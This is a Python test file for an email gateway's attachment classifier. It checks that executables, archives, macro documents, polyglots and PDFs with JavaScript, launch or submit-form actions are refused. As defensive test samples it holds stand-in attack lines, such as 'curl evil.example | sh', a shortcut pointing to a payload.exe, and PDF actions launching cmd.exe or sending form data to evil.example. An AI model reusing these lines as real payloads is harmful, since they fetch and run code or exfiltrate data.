"""Attachments by what they are: the allow list decided from the bytes (formats of Đắk Lắk QĐ 16/2019
Đ4.3 and the technical parts mail clients add), forwarded mails opened and judged the same way,
PDFs with active content refused. Unit tables on bytes made here, a property test on arbitrary
bytes, the real PDFs of the shared corpus, and a few mails through the real command line."""

from __future__ import annotations

import io
import struct
import zipfile
from collections.abc import Callable
from email.message import EmailMessage
from email.policy import SMTP
from pathlib import Path

import pymupdf
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from PIL import Image
from sqlalchemy import select

from gateway.intake import mime
from gateway.intake.attachments import classify, draft_owner, in_forwarded_mail
from gateway.intake.pdf_content import active_content, active_content_of
from kit import make_mail
from registry.models import DocumentFile, Mail
from world import STC, STP, US, make_world

# ---- bytes made here ------------------------------------------------------------------------------

EXE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 48 + b"PE\x00\x00"
ONENOTE = bytes.fromhex("E4525C7B8CD8A74DAEB15378D02996D3") + b"\x00" * 64
VHDX = b"vhdxfile" + "Microsoft Windows 10.0".encode("utf-16-le") + b"\x00" * 64
LNK = bytes.fromhex("4C0000000114020000000000C000000000000046") + b"\x00" * 56
URL = b"[InternetShortcut]\r\nURL=file://evil.example/share/payload.exe\r\n"
HTML = b"<!DOCTYPE html><html><body><script>location='https://evil.example'</script></body></html>"


def pdf(build: Callable[[pymupdf.Document], None] | None = None) -> bytes:
    doc = pymupdf.open()
    page = doc.new_page()
    page.insert_text((72, 72), "UBND TINH BAC GIANG - Cong van so 12/STP-VP", fontname="helv")
    if build is not None:
        build(doc)
    return doc.tobytes()


def zipped(*files: tuple[str, bytes | str]) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as archive:
        for name, data in files:
            archive.writestr(name, data)
    return buf.getvalue()


def docx(*extra: tuple[str, bytes | str]) -> bytes:
    return zipped(("[Content_Types].xml", "<Types/>"), ("word/document.xml", "<w:document/>"), *extra)


def xlsx(*extra: tuple[str, bytes | str]) -> bytes:
    return zipped(("[Content_Types].xml", "<Types/>"), ("xl/workbook.xml", "<workbook/>"), *extra)


def odf(kind: str, *extra: tuple[str, bytes | str]) -> bytes:
    return zipped(("mimetype", f"application/vnd.oasis.opendocument.{kind}"), ("content.xml", "<x/>"), *extra)


def ole(streams: dict[str, bytes]) -> bytes:
    """A compound file (OLE2, as .doc and .xls are) holding the given streams ("Storage/Stream"),
    each padded to 4096 bytes so that all live in regular 512-byte sectors."""
    end, free, nostream = 0xFFFFFFFE, 0xFFFFFFFF, 0xFFFFFFFF
    entries: list[dict] = [{"name": "Root Entry", "type": 5, "children": [], "data": b""}]
    index = {"": 0}
    for path, data in streams.items():
        parts = path.split("/")
        parent = 0
        for depth, name in enumerate(parts):
            key = "/".join(parts[: depth + 1])
            if key not in index:
                leaf = depth == len(parts) - 1
                entries.append({"name": name, "type": 2 if leaf else 1, "children": [],
                                "data": data.ljust(4096, b"\x00") if leaf else b""})
                index[key] = len(entries) - 1
                entries[parent]["children"].append(index[key])
            parent = index[key]
    dir_sectors = (len(entries) + 3) // 4
    fat = [0xFFFFFFFD] + [s + 1 if s < dir_sectors else end for s in range(1, dir_sectors + 1)]
    for entry in entries:
        entry["left"] = entry["right"] = entry["child"] = nostream
        entry["start"], entry["size"] = end, 0
        if entry["type"] == 2:
            count = len(entry["data"]) // 512
            entry["start"], entry["size"] = len(fat), len(entry["data"])
            fat += [len(fat) + k + 1 if k < count - 1 else end for k in range(count)]
    assert len(fat) <= 128, "one FAT sector"
    for entry in entries:  # siblings as a chain in the order the format sorts them
        kids = sorted(entry["children"], key=lambda i: (len(entries[i]["name"]), entries[i]["name"].upper()))
        if kids:
            entry["child"] = kids[0]
            for a, b in zip(kids, kids[1:]):
                entries[a]["right"] = b
    directory = b""
    for entry in entries + [None] * (dir_sectors * 4 - len(entries)):
        if entry is None:
            directory += b"\x00" * 66 + bytes([0, 1]) + struct.pack("<III", nostream, nostream, nostream) + b"\x00" * 48
            continue
        name = entry["name"].encode("utf-16-le")
        directory += struct.pack("<64sHBBIII16sIQQIQ", name, len(name) + 2, entry["type"], 1, entry["left"],
                                 entry["right"], entry["child"], b"\x00" * 16, 0, 0, 0, entry["start"], entry["size"])
    header = struct.pack("<8s16sHHHHH6sIIIIIIIII", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", b"\x00" * 16, 0x3E, 3,
                         0xFFFE, 9, 6, b"\x00" * 6, 0, 1, 1, 0, 0x1000, end, 0, end, 0)
    header += struct.pack("<109I", 0, *([free] * 108))
    sectors = struct.pack(f"<{128}I", *(fat + [free] * (128 - len(fat))))
    return header + sectors + directory + b"".join(e["data"] for e in entries if e["type"] == 2)


WORD = {"WordDocument": b"\xec\xa5\xc1\x00", "1Table": b"\x00"}
VBA = {"Macros/PROJECT": b'ID="{00000000-0000-0000-0000-000000000000}"\r\nDocument=ThisDocument/&H00000000\r\n',
       "Macros/VBA/dir": b"\x01", "Macros/VBA/_VBA_PROJECT": b"\xcc\x61\xff\xff\x00",
       "Macros/VBA/ThisDocument": b"\x00Attribut\x00e VB_Name = \"ThisDocument\""}


def tnef(*files: tuple[str, bytes]) -> bytes:
    """Outlook's winmail.dat (TNEF) carrying the given files."""
    def attribute(level: int, ident: int, kind: int, data: bytes) -> bytes:
        return struct.pack("<BHHI", level, ident, kind, len(data)) + data + struct.pack("<H", sum(data) & 0xFFFF)

    out = b"\x78\x9f\x3e\x22" + b"\x01\x00" + attribute(1, 0x9006, 0x0009, b"\x00\x00\x01\x00")
    for name, data in files:
        out += attribute(2, 0x9002, 0x0006, b"\x01\x00\xff\xff\xff\xff" + b"\x00" * 8)  # a new attachment
        out += attribute(2, 0x8010, 0x0001, name.encode() + b"\x00")
        out += attribute(2, 0x800F, 0x0006, data)
    return out


def image(kind: str) -> bytes:
    buf = io.BytesIO()
    Image.new("RGB", (24, 16), (200, 20, 20)).save(buf, kind)
    return buf.getvalue()


# ---- the classifier -----------------------------------------------------------------------------

PLAIN = pdf()
CASES: list[tuple[str, str, str, bytes, str, str]] = [
    # case, filename, declared type, bytes, kind, what the note says
    ("pdf", "cong-van.pdf", "application/pdf", PLAIN, "pdf", ""),
    ("pdf after a BOM", "cv.pdf", "application/pdf", b"\xef\xbb\xbf" + PLAIN, "pdf", ""),
    ("pdf after blank lines", "cv.pdf", "application/octet-stream", b"\r\n\r\n" + PLAIN, "pdf", ""),
    ("pdf with any name", "van ban", "application/octet-stream", PLAIN, "pdf", ""),
    ("MZ then %PDF named .exe", "a.exe", "application/pdf", EXE + PLAIN, "refused", "tệp chạy được giả dạng PDF: a.exe"),
    ("MZ then %PDF named .pdf", "cv.pdf", "application/pdf", EXE + PLAIN, "refused", "tệp chạy được giả dạng PDF: cv.pdf"),
    ("%PDF after a zip header", "cv.pdf", "application/pdf", b"PK\x03\x04" + PLAIN, "refused", "tệp nén"),
    ("a clean PDF named .exe", "cong-van.exe", "application/pdf", PLAIN, "refused", "tệp chạy được giả dạng PDF: cong-van.exe"),
    ("a PDF named .pdf.js", "cv.pdf.js", "application/pdf", PLAIN, "refused", "tập lệnh giả dạng PDF"),
    ("PDF with a zip appended", "cv.pdf", "application/pdf", PLAIN + zipped(("a.exe", EXE)), "refused", "PDF ghép với tệp nén"),
    ("zip: PDF first, exe after", "ho-so.zip", "application/zip",
     zipped(("cv.pdf", PLAIN), ("setup.exe", EXE)), "refused", "tệp nén: ho-so.zip"),
    ("zip named .pdf", "cv.pdf", "application/pdf", zipped(("cv.pdf", PLAIN)), "refused", "tệp nén: cv.pdf"),
    ("zip named .docx", "du-thao.docx", "", zipped(("word/document.xml", "<w/>")), "refused", "tệp nén: du-thao.docx"),
    ("broken zip", "du-thao.docx", "", b"PK\x03\x04" + b"\x00" * 40, "refused", "tệp nén hỏng"),
    ("rar", "ho-so.rar", "", b"Rar!\x1a\x07\x01\x00" + b"\x00" * 32, "refused", "tệp nén: ho-so.rar"),
    ("7z named .doc", "du-thao.doc", "", b"7z\xbc\xaf\x27\x1c\x00\x04" + b"\x00" * 32, "refused", "tệp nén"),
    ("gzip", "bang.csv.gz", "", b"\x1f\x8b\x08\x00" + b"\x00" * 32, "refused", "tệp nén"),
    ("exe", "setup.exe", "application/octet-stream", EXE, "refused", "tệp chạy được: setup.exe"),
    ("exe named .pdf", "cv.pdf", "application/pdf", EXE, "refused", "tệp chạy được: cv.pdf"),
    ("ELF", "update", "", b"\x7fELF\x02\x01\x01" + b"\x00" * 40, "refused", "tệp chạy được"),
    ("shell script named .txt", "ghi-chu.txt", "text/plain", b"#!/bin/sh\ncurl evil.example | sh\n", "refused", "tập lệnh"),
    ("javascript", "hoa-don.js", "", b"var s = new ActiveXObject('WScript.Shell');", "refused", "tập lệnh: hoa-don.js"),
    ("html", "thong-bao.html", "text/html", HTML, "refused", "trang HTML: thong-bao.html"),
    ("html named .txt", "ghi-chu.txt", "text/plain", HTML, "refused", "trang HTML"),
    ("html without a name", "", "text/html", b"<p>xin chao</p>", "refused", "trang HTML hoặc tập lệnh"),
    ("OneNote", "ho-so.one", "application/onenote", ONENOTE, "refused", "sổ tay OneNote: ho-so.one"),
    ("OneNote named .pdf", "cv.pdf", "application/pdf", ONENOTE, "refused", "sổ tay OneNote: cv.pdf"),
    ("VHDX", "ho-so.vhdx", "", VHDX, "refused", "ảnh đĩa: ho-so.vhdx"),
    ("ISO", "ho-so.iso", "", b"\x00" * 0x8001 + b"CD001\x01", "refused", "ảnh đĩa"),
    ("XLL add-in", "bang-tinh.xll", "", EXE, "refused", "tệp chạy được: bang-tinh.xll"),
    ("Internet shortcut", "tai-lieu.url", "", URL, "refused", "lối tắt: tai-lieu.url"),
    ("Windows shortcut", "tai-lieu.lnk", "", LNK, "refused", "lối tắt: tai-lieu.lnk"),
    ("unknown binary", "du-lieu.bin", "application/octet-stream", bytes(range(256)) * 4, "refused",
     "tệp nhị phân không rõ định dạng: du-lieu.bin"),
    ("xml", "hoa-don.xml", "application/xml", b"<?xml version='1.0'?><HDon/>", "refused", "văn bản thuần mang đuôi .xml"),
    ("docx", "du-thao.docx", "", docx(), "draft", ""),
    ("docx under another name", "du-thao.doc", "", docx(), "draft", ""),
    ("xlsx", "bang.xlsx", "", xlsx(), "draft", ""),
    ("odt", "du-thao.odt", "", odf("text"), "draft", ""),
    ("ods", "bang.ods", "", odf("spreadsheet"), "draft", ""),
    ("pptx", "trinh-chieu.pptx", "", zipped(("[Content_Types].xml", "<Types/>"), ("ppt/presentation.xml", "<p/>")),
     "refused", "tài liệu Office không phải Word hay Excel"),
    ("docx with vbaProject.bin", "du-thao.docx", "", docx(("word/vbaProject.bin", ole(VBA))), "refused",
     "tài liệu có macro: du-thao.docx"),
    ("xlsx with macro sheets", "bang.xlsx", "", xlsx(("xl/macrosheets/sheet1.xml", "<xm/>")), "refused", "tài liệu có macro"),
    ("macro-enabled content type", "bang.xlsx", "",
     zipped(("[Content_Types].xml", "<Override ContentType='application/vnd.ms-excel.sheet.macroEnabled.main+xml'/>"),
            ("xl/workbook.xml", "<workbook/>")), "refused", "tài liệu có macro"),
    ("odt with Basic macros", "du-thao.odt", "", odf("text", ("Basic/Standard/Module1.xml", "<m/>")), "refused",
     "tài liệu có macro"),
    ("a clean docx named .docm", "du-thao.docm", "", docx(), "refused", "tài liệu có macro giả dạng tài liệu Word"),
    ("doc", "du-thao.doc", "application/msword", ole(WORD), "draft", ""),
    ("xls", "bang.xls", "", ole({"Workbook": b"\x09\x08\x10\x00"}), "draft", ""),
    ("doc with VBA macros", "du-thao.doc", "application/msword", ole({**WORD, **VBA}), "refused",
     "tài liệu có macro: du-thao.doc"),
    ("xls with VBA macros", "bang.xls", "", ole({"Workbook": b"\x09\x08", "_VBA_PROJECT_CUR/VBA/dir": b"\x01"}),
     "refused", "tài liệu có macro"),
    ("OLE that is neither Word nor Excel (an installer)", "setup.doc", "",
     ole({"\u4840\u3b3f\u4577\u446c": b"\x00"}), "refused", "tệp OLE không phải tài liệu Word hay Excel"),
    ("password-protected Office file", "du-thao.docx", "", ole({"EncryptionInfo": b"\x04\x00", "EncryptedPackage": b"\x00"}),
     "refused", "có mật khẩu"),
    ("rtf", "du-thao.rtf", "application/rtf", b"{\\rtf1\\ansi Xin g\\'e1i}", "draft", ""),
    ("txt in UTF-8", "ghi-chu.txt", "text/plain", "Kính gửi Sở Nội vụ".encode(), "draft", ""),
    ("txt in TCVN3", "ghi-chu.txt", "text/plain", b"K\xadnh g\xadi S\xe9 N\xe9i v\xf5", "draft", ""),
    ("csv opening with BM (a form's code, not a bitmap)", "bieu-mau.csv", "text/csv", "BM 01,Biểu mẫu\r\n".encode(),
     "draft", ""),
    ("csv in UTF-16", "bang.csv", "text/csv", "STT,Họ tên\r\n1,Nguyễn Văn A\r\n".encode("utf-16"), "draft", ""),
    ("jpeg", "anh.jpg", "image/jpeg", image("JPEG"), "draft", ""),
    ("png", "logo.png", "image/png", image("PNG"), "draft", ""),
    ("png header only", "logo.png", "image/png", b"\x89PNG\r\n\x1a\n", "draft", ""),
    ("gif", "logo.gif", "image/gif", image("GIF"), "harmless", ""),
    ("bmp", "logo.bmp", "image/bmp", image("BMP"), "harmless", ""),
    ("tiff", "scan.tif", "image/tiff", image("TIFF"), "harmless", ""),
    ("webp", "anh.webp", "image/webp", image("WEBP"), "harmless", ""),
    ("png with a zip appended", "logo.png", "image/png", image("PNG") + zipped(("a.exe", EXE)), "refused",
     "ảnh PNG ghép với tệp nén"),
    ("S/MIME signature", "smime.p7s", "application/pkcs7-signature", b"0\x82\x05\x00\x06\x09*\x86H\x86\xf7\r\x01\x07\x02",
     "harmless", ""),
    ("S/MIME signature, two bytes", "smime.p7s", "application/pkcs7-signature", b"0\x82", "harmless", ""),
    ("exe named smime.p7s", "smime.p7s", "application/pkcs7-signature", EXE, "refused", "tệp chạy được"),
    ("OpenPGP signature", "signature.asc", "application/pgp-signature",
     b"-----BEGIN PGP SIGNATURE-----\n\niQEzBAEBCAAdFiEE\n=abcd\n-----END PGP SIGNATURE-----\n", "harmless", ""),
    ("text named .asc that is no signature", "notes.asc", "text/plain", b"hello", "refused", "văn bản thuần"),
    ("calendar", "invite.ics", "text/calendar", b"BEGIN:VCALENDAR\r\nVERSION:2.0\r\nEND:VCALENDAR\r\n", "harmless", ""),
    ("calendar without a name", "", "text/calendar", b"BEGIN:VCALENDAR\r\nEND:VCALENDAR\r\n", "harmless", ""),
    ("contact card", "nguoi-gui.vcf", "text/vcard", b"BEGIN:VCARD\r\nFN:Van thu\r\nEND:VCARD\r\n", "harmless", ""),
    ("winmail.dat with a docx and a png", "winmail.dat", "application/ms-tnef",
     tnef(("du-thao.docx", docx()), ("logo.png", image("PNG"))), "harmless", ""),
    ("winmail.dat with nothing inside", "winmail.dat", "application/ms-tnef", tnef(), "harmless", ""),
    ("winmail.dat carrying an exe", "winmail.dat", "application/ms-tnef", tnef(("du-thao.docx", docx()), ("setup.exe", EXE)),
     "refused", "winmail.dat chứa tệp chạy được (setup.exe): winmail.dat"),
    ("winmail.dat carrying a zip", "winmail.dat", "application/ms-tnef", tnef(("ho-so.zip", zipped(("a.txt", "x")))),
     "refused", "winmail.dat chứa tệp nén (ho-so.zip)"),
    ("winmail.dat in winmail.dat with an exe", "winmail.dat", "application/ms-tnef",
     tnef(("winmail.dat", tnef(("a.exe", EXE)))), "refused", "winmail.dat chứa"),
    ("4 bytes of winmail.dat", "winmail.dat", "application/ms-tnef", b"\x78\x9f\x3e\x22", "refused",
     "winmail.dat không mở được"),
    ("empty file", "trong.txt", "text/plain", b"", "harmless", ""),
    ("empty file named .exe", "trong.exe", "", b"", "refused", "tệp chạy được"),
    ("a fragment of a mail", "", "message/partial", b"From: a@b\r\n\r\nx", "refused", "message/partial"),
    ("a delivery report part", "", "message/delivery-status", b"Reporting-MTA: dns; mx.example\r\n", "harmless", ""),
]


@pytest.mark.parametrize("filename,ctype,data,kind,note", [c[1:] for c in CASES], ids=[c[0] for c in CASES])
def test_classify(filename: str, ctype: str, data: bytes, kind: str, note: str) -> None:
    found = classify(filename, ctype, data)
    assert found.kind == kind, found
    assert note in found.note
    assert bool(found.note) == (kind == "refused")


def test_a_forwarded_mail_keeps_its_files_without_registering_them() -> None:
    assert in_forwarded_mail(classify("cv.pdf", "application/pdf", PLAIN)).kind == "other"
    assert in_forwarded_mail(classify("du-thao.docx", "", docx())).kind == "other"
    assert in_forwarded_mail(classify("setup.exe", "", EXE)).note == "tệp chạy được: setup.exe"


# ---- forwarded mails, opened ----------------------------------------------------------------------

def mail_with(*attachments: tuple[str, bytes], forwarded: list[EmailMessage] = (), subject: str = "Chuyển tiếp") -> EmailMessage:  # type: ignore[assignment]
    msg = EmailMessage(policy=SMTP)
    msg["From"], msg["To"], msg["Subject"] = STP, US["mailbox"], subject
    msg.set_content("Xin chuyển tiếp.")
    for name, data in attachments:
        msg.add_attachment(data, maintype="application", subtype="octet-stream", filename=name)
    for inner in forwarded:
        msg.add_attachment(inner)  # message/rfc822, as mail clients forward as attachment
    return msg


def judged(msg: EmailMessage | bytes) -> list[tuple[str, str, int]]:
    raw = msg if isinstance(msg, bytes) else msg.as_bytes()
    found = []
    for part in mime.parts(mime.parse_message(raw)):
        if part.inline_body:
            continue
        c = classify(part.filename, part.content_type, part.data)
        c = in_forwarded_mail(c) if part.forwarded else c
        found.append((part.filename, c.kind, part.forwarded))
    return found


def test_parts_of_a_forwarded_mail_are_judged_by_the_same_list() -> None:
    inner = mail_with(("cv.pdf", PLAIN), ("ho-so.zip", zipped(("a.exe", EXE))))
    assert judged(mail_with(("cong-van.pdf", PLAIN), forwarded=[inner])) == [
        ("cong-van.pdf", "pdf", 0), ("cv.pdf", "other", 1), ("ho-so.zip", "refused", 1)]


def test_a_forwarded_mail_encoded_in_base64_and_an_attached_eml_are_opened_too() -> None:
    inner = mail_with(("setup.exe", EXE)).as_bytes()
    encoded = make_mail(sender=STP, to=[US["mailbox"]], subject="x", attachments=[("thu.eml", inner)],
                        declared_type="message/rfc822")
    assert b"Content-Type: message/rfc822" in encoded and b"Content-Transfer-Encoding: base64" in encoded
    assert judged(encoded) == [("setup.exe", "refused", 1)]
    as_file = make_mail(sender=STP, to=[US["mailbox"]], subject="x", attachments=[("thu.eml", inner)])
    assert judged(as_file) == [("setup.exe", "refused", 1)]


def test_forwarded_mails_are_opened_down_to_a_bound_and_deeper_ones_refused() -> None:
    msg = mail_with(("setup.exe", EXE))
    for level in range(mime.FORWARD_DEPTH + 1):
        msg = mail_with(forwarded=[msg], subject=f"Fw {level}")
    found = judged(msg)
    assert found == [("message.eml", "refused", mime.FORWARD_DEPTH)]


def test_a_pathologically_nested_multipart_is_walked_without_recursion() -> None:
    leaf = b"Content-Type: application/octet-stream; name=a.exe\r\nContent-Transfer-Encoding: base64\r\n\r\nTVqQAAMAAAAEAAAA//8AAA==\r\n"
    body = leaf
    for level in range(300):
        body = (f"Content-Type: multipart/mixed; boundary=b{level}\r\n\r\n--b{level}\r\n".encode() + body
                + f"\r\n--b{level}--\r\n".encode())
    raw = b"From: a@b.example\r\nSubject: x\r\nMIME-Version: 1.0\r\n" + body
    assert judged(raw) == [("a.exe", "refused", 0)]


# ---- active content in PDFs -----------------------------------------------------------------------

def _object(doc: pymupdf.Document, source: str) -> int:
    xref = doc.get_new_xref()
    doc.update_object(xref, source)
    return xref


def _on_catalog(key: str, value: str) -> Callable[[pymupdf.Document], None]:
    def build(doc: pymupdf.Document) -> None:
        doc.xref_set_key(doc.pdf_catalog(), key, value)
    return build


def _open_action(action: str) -> Callable[[pymupdf.Document], None]:
    def build(doc: pymupdf.Document) -> None:
        doc.xref_set_key(doc.pdf_catalog(), "OpenAction", f"{_object(doc, action)} 0 R")
    return build


def _link(action: str) -> Callable[[pymupdf.Document], None]:
    def build(doc: pymupdf.Document) -> None:
        annot = _object(doc, f"<</Type/Annot/Subtype/Link/Rect[72 700 300 720]/A {action}>>")
        doc.xref_set_key(doc[0].xref, "Annots", f"[{annot} 0 R]")
    return build


def _embedded(name: str, data: bytes) -> Callable[[pymupdf.Document], None]:
    def build(doc: pymupdf.Document) -> None:
        doc.embfile_add(name, data, filename=name)
    return build


def _file_annotation(name: str, data: bytes) -> Callable[[pymupdf.Document], None]:
    def build(doc: pymupdf.Document) -> None:
        doc[0].add_file_annot((100, 100), data, name)
    return build


def _uri_link(doc: pymupdf.Document) -> None:
    doc[0].insert_link({"kind": pymupdf.LINK_URI, "from": pymupdf.Rect(72, 60, 300, 80), "uri": "https://bacgiang.gov.vn"})


def _outline(doc: pymupdf.Document) -> None:
    doc.new_page()
    doc.set_toc([[1, "Phần I", 1], [1, "Phần II", 2]])


PDF_CASES: list[tuple[str, Callable[[pymupdf.Document], None] | None, str | None]] = [
    # case, how the PDF is made, what a finding says (None: an ordinary PDF)
    ("plain", None, None),
    ("a link to a web page", _uri_link, None),
    ("an outline of go-to-page actions", _outline, None),
    ("a title that mentions /JavaScript and /Launch", lambda d: d.set_metadata({"title": "(/JavaScript /Launch /JS)"}), None),
    ("an embedded png", _embedded("logo.png", image("PNG")), None),
    ("an embedded docx", _embedded("du-thao.docx", docx()), None),
    ("JavaScript on open", _open_action("<</S/JavaScript/JS(app.alert\\(1\\))>>"), "JavaScript"),
    ("JavaScript with a hex-escaped name", _open_action("<</S/J#61vaScript/JS(app.alert\\(1\\))>>"), "JavaScript"),
    ("document JavaScript in the name tree",
     lambda d: d.xref_set_key(d.pdf_catalog(), "Names",
                              f"<</JavaScript<</Names[(init) {_object(d, '<</S/JavaScript/JS(this.print())>>')} 0 R]>>>>"),
     "JavaScript"),
    ("JavaScript when a page opens", lambda d: d.xref_set_key(d[0].xref, "AA", "<</O<</S/JavaScript/JS(x)>>>>"), "JavaScript"),
    ("JavaScript chained after a go-to", _open_action("<</S/GoTo/D[0 /Fit]/Next<</S/JavaScript/JS(x)>>>>"), "JavaScript"),
    ("a launch action", _link("<</S/Launch/F(cmd.exe)/Win<</F(cmd.exe)/P(/c calc)>>>>"), "Launch"),
    ("a launch action on open", _open_action("<</S/Launch/F(payload.exe)>>"), "Launch"),
    ("a form submitted elsewhere", _link("<</S/SubmitForm/F<</FS/URL/F(https://evil.example/collect)>>>>"), "SubmitForm"),
    ("data imported", _link("<</S/ImportData/F(data.fdf)>>"), "ImportData"),
    ("an embedded file opened", _link("<</S/GoToE/NewWindow true/T<</R/C/N(a.pdf)>>>>"), "GoToE"),
    ("another file opened", _link("<</S/GoToR/F(\\\\\\\\evil.example\\\\share\\\\a.pdf)/D[0 /Fit]>>"), "GoToR"),
    ("rich media", lambda d: d.xref_set_key(d[0].xref, "Annots",
                                            f"[{_object(d, '<</Type/Annot/Subtype/RichMedia/Rect[0 0 10 10]>>')} 0 R]"),
     "RichMedia"),
    ("an embedded exe", _embedded("setup.exe", EXE), "tệp nhúng tệp chạy được: setup.exe"),
    ("an embedded exe named .pdf", _embedded("cv.pdf", EXE), "tệp nhúng tệp chạy được"),
    ("an embedded PDF named .exe", _embedded("cv.exe", PLAIN), "tệp chạy được giả dạng PDF: cv.exe"),
    ("an embedded zip", _embedded("ho-so.zip", zipped(("a.txt", "x"))), "tệp nhúng tệp nén"),
    ("an embedded html page", _embedded("trang.html", HTML), "trang HTML"),
    ("an embedded PDF with JavaScript", _embedded("phu-luc.pdf", pdf(_open_action("<</S/JavaScript/JS(x)>>"))),
     "trong tệp nhúng phu-luc.pdf: JavaScript"),
    ("an exe in a file-attachment annotation", _file_annotation("setup.exe", EXE), "tệp chạy được"),
    ("a zip in a file-attachment annotation named .txt", _file_annotation("ghi-chu.txt", zipped(("a.exe", EXE))), "tệp nén"),
]


@pytest.mark.parametrize("build,finding", [c[1:] for c in PDF_CASES], ids=[c[0] for c in PDF_CASES])
def test_active_content(build: Callable[[pymupdf.Document], None] | None, finding: str | None) -> None:
    data = pdf(build)
    assert classify("cv.pdf", "application/pdf", data).kind == "pdf"
    with pymupdf.open(stream=data, filetype="pdf") as doc:
        findings = active_content(doc)
    if finding is None:
        assert findings == ()
    else:
        assert any(finding in f for f in findings), findings


def test_signed_and_scanned_documents_have_no_active_content(world, tmp_path: Path) -> None:
    for data in (world.signed(), world.signed("stc"), world.scanned(), world.document(), world.signed(pdf=world.scanned())):
        assert classify("cv.pdf", "application/pdf", data).kind == "pdf"
        assert active_content_of(data) == ()
    # JavaScript added in a revision after the signature: seen, though the signed revision is clean
    path = tmp_path / "signed.pdf"
    path.write_bytes(world.signed())
    doc = pymupdf.open(path)
    doc.xref_set_key(doc.pdf_catalog(), "OpenAction", f"{_object(doc, '<</S/JavaScript/JS(x)>>')} 0 R")
    doc.save(path, incremental=True, encryption=pymupdf.PDF_ENCRYPT_KEEP)
    doc.close()
    assert active_content_of(path.read_bytes()) == ("JavaScript",)
    # and through intake, which reads the signed revision alone but looks for active content in the whole file
    [out] = world.ingest(world.mail("later-js", attachments=[("cv.pdf", path.read_bytes())]), command="check")
    assert any(r["code"] == "unsupported-attachment" and "JavaScript" in r["message"] for r in out["reasons"]), out["reasons"]


def test_real_pdfs_are_pdfs_without_active_content(realpdf: Path) -> None:
    files = sorted(realpdf.glob("*.pdf"))
    assert files
    for path in files:
        data = path.read_bytes()
        assert classify(path.name, "application/pdf", data).kind == "pdf", path.name
        assert active_content_of(data) == (), path.name


# ---- properties on arbitrary bytes ----------------------------------------------------------------

# executable and archive headers: no bytes that start with one may ever be accepted
MAGICS = [b"MZ", b"\x7fELF", b"\xca\xfe\xba\xbe", b"\xcf\xfa\xed\xfe", b"\xfe\xed\xfa\xce", b"#!", b"PK\x03\x04",
          b"PK\x05\x06", b"Rar!\x1a\x07", b"7z\xbc\xaf\x27\x1c", b"\x1f\x8b", b"BZh", b"\xfd7zXZ\x00", b"MSCF",
          b"\x28\xb5\x2f\xfd", b"vhdxfile", ONENOTE[:16], LNK[:20], b"\x00asm"]
NAMES = st.sampled_from(["cv.pdf", "ghi-chu.txt", "bang.csv", "du-thao.docx", "du-thao.doc", "logo.png", "anh.jpg",
                         "smime.p7s", "winmail.dat", "invite.ics", "", "du-thao.rtf"]) | st.text(max_size=30)
TYPES = st.sampled_from(["", "application/pdf", "text/plain", "text/calendar", "application/pkcs7-signature",
                         "application/ms-tnef", "image/png", "application/octet-stream", "message/delivery-status"])


@settings(max_examples=400, deadline=None)
@given(name=NAMES, ctype=TYPES, data=st.binary(max_size=4096))
def test_classify_never_raises(name: str, ctype: str, data: bytes) -> None:
    assert classify(name, ctype, data).kind in ("pdf", "draft", "harmless", "refused")


@settings(max_examples=400, deadline=None)
@given(magic=st.sampled_from(MAGICS), rest=st.binary(max_size=2048) | st.text(max_size=200).map(str.encode),
       name=NAMES, ctype=TYPES)
def test_an_executable_or_archive_header_is_never_accepted(magic: bytes, rest: bytes, name: str, ctype: str) -> None:
    assert classify(name, ctype, magic + rest).kind == "refused"


@settings(max_examples=200, deadline=None)
@given(prefix=st.sampled_from([EXE, b"PK\x03\x04\x14\x00\x00\x00", b"#!/bin/sh\n", ONENOTE]), gap=st.binary(max_size=64),
       name=NAMES)
def test_a_pdf_behind_another_format_is_never_accepted(prefix: bytes, gap: bytes, name: str) -> None:
    assert classify(name, "application/pdf", prefix + gap + PLAIN).kind == "refused"


@settings(max_examples=200, deadline=None)
@given(raw=st.binary(max_size=4096))
def test_any_mail_bytes_are_split_into_parts_without_raising(raw: bytes) -> None:
    for part in mime.parts(mime.parse_message(b"MIME-Version: 1.0\r\n" + raw)):
        classify(part.filename, part.content_type, part.data)


# ---- through the command line ---------------------------------------------------------------------

@pytest.fixture(scope="module")
def run(tmp_path_factory, province):  # type: ignore[no-untyped-def]
    pki, signers, stranger = province
    w = make_world(tmp_path_factory.mktemp("attachments"), pki, signers, stranger)
    n = iter(range(300, 400))

    def doc() -> bytes:
        return w.document(number=f"{next(n)}/STP-VP")

    forwarded = make_mail(sender="ai-do@evil.example", to=[STP], subject="Hồ sơ",
                          attachments=[("cv.pdf", doc()), ("ho-so.zip", zipped(("a.exe", EXE)))])
    forwarded_pdf = make_mail(sender="ai-do@evil.example", to=[STP], subject="Văn bản", attachments=[("cv.pdf", doc())])
    mails = {
        "zip-pdf-then-exe": [("cv.pdf", doc()), ("ho-so.zip", zipped(("cv.pdf", doc()), ("setup.exe", EXE)))],
        "polyglot-exe": [("cong-van.exe", EXE + doc())],
        "forwarded-zip": [("cv.pdf", doc()), ("chuyen-tiep.eml", forwarded)],
        "html": [("cv.pdf", doc()), ("thong-bao.html", HTML)],
        "onenote": [("cv.pdf", doc()), ("ho-so.one", ONENOTE)],
        "vhdx": [("cv.pdf", doc()), ("ho-so.vhdx", VHDX)],
        "xll": [("cv.pdf", doc()), ("bang-tinh.xll", EXE)],
        "url": [("cv.pdf", doc()), ("tai-lieu.url", URL)],
        "pdf-javascript": [("cv.pdf", _with(doc(), _open_action("<</S/JavaScript/JS(app.launchURL\\('x'\\))>>")))],
        "pdf-embedded-exe": [("cv.pdf", _with(doc(), _embedded("setup.exe", EXE)))],
        "forwarded-pdf-only": [("chuyen-tiep.eml", forwarded_pdf)],
        "own-and-forwarded-pdf": [("cv.pdf", doc()), ("chuyen-tiep.eml", forwarded_pdf)],
    }
    paths = [w.mail(name, attachments=files) for name, files in mails.items()]
    # nothing proves these senders (one sender each: the clerk's alerts about one sender are grouped)
    paths += [w.mail(f"forged-{name}", sender=sender, auth=None, attachments=mails[name])
              for name, sender in (("zip-pdf-then-exe", STP), ("pdf-javascript", STC))]
    by_name = {Path(o["file"]).stem: o for o in w.ingest(*paths)}
    return w, by_name


def _with(data: bytes, build: Callable[[pymupdf.Document], None]) -> bytes:
    doc = pymupdf.open(stream=data, filetype="pdf")
    build(doc)
